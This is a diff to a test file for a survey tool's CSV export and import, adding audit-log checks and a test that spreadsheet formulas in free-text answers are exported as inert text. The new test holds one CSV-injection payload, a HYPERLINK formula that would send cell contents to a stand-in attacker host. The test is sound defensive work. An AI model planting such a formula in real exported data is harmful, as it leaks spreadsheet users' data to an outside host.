@@ -99,6 +99,16 @@ test('a good CSV round-trips: export → import into a new wave → export is un
   assert.equal(await runExportResponses(again.context), 0);
   const original = readFileSync(`/tmp/atlas-roundtrip-${process.pid}.csv`, 'utf8');
   assert.equal(`${again.printed.join('\n')}\n`, original);
+  const audited = await database.db
+    .selectFrom('audit_event')
+    .select(['action', 'entity_id', 'details'])
+    .where('action', 'in', ['survey.responses.export', 'survey.responses.import'])
+    .where('entity_id', 'in', ['lv-2004', key])
+    .execute();
+  assert.deepEqual(
+    audited.map((event) => `${event.action} ${event.entity_id} ${(event.details as { via: string }).via}`).sort(),
+    [`survey.responses.export ${key} cli`, 'survey.responses.export lv-2004 cli', `survey.responses.import ${key} cli`],
+  );
 });
 
 test('one bad row among many imports nothing and names its row, column and reason', async () => {
@@ -188,4 +198,26 @@ test('waves create prints the key on its last line and refuses a missing name', 
   assert.equal(await runCreateWave(missing.context), 2);
   const unknown = cli(['--questionnaire', 'no-such', '--name', 'X']);
   await assert.rejects(runCreateWave(unknown.context), /questionnaire_not_found/);
+});
+
+test('free text that a spreadsheet would run as a formula is exported as text, and imports back unchanged', async () => {
+  const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Open")';
+  const lines = shippedCsv.trimEnd().split('\n');
+  const header = lines[0]!.split(',');
+  const textColumn = header.indexOf('documents_provided_what');
+  const fields = parse(lines[1]!)[0] as string[];
+  fields[textColumn] = formula;
+  lines[1] = fields.map((field) => (/[",\n]/.test(field) ? `"${field.replace(/"/g, '""')}"` : field)).join(',');
+  const key = await newWave('Formula');
+  const wave = await getWaveByKey(database.db, key);
+  await database.db.transaction().execute((trx) => importResponses(trx, wave, `${lines.join('\n')}\n`));
+
+  const exported = await exportResponsesToString(database.db, wave);
+  const rows = parse(exported) as string[][];
+  const row = rows.find((cells) => cells[0] === fields[0])!;
+  assert.equal(row[textColumn], `'${formula}`);
+
+  const again = await getWaveByKey(database.db, await newWave('Formula again'));
+  await database.db.transaction().execute((trx) => importResponses(trx, again, exported));
+  assert.equal(await exportResponsesToString(database.db, again), exported);
 });
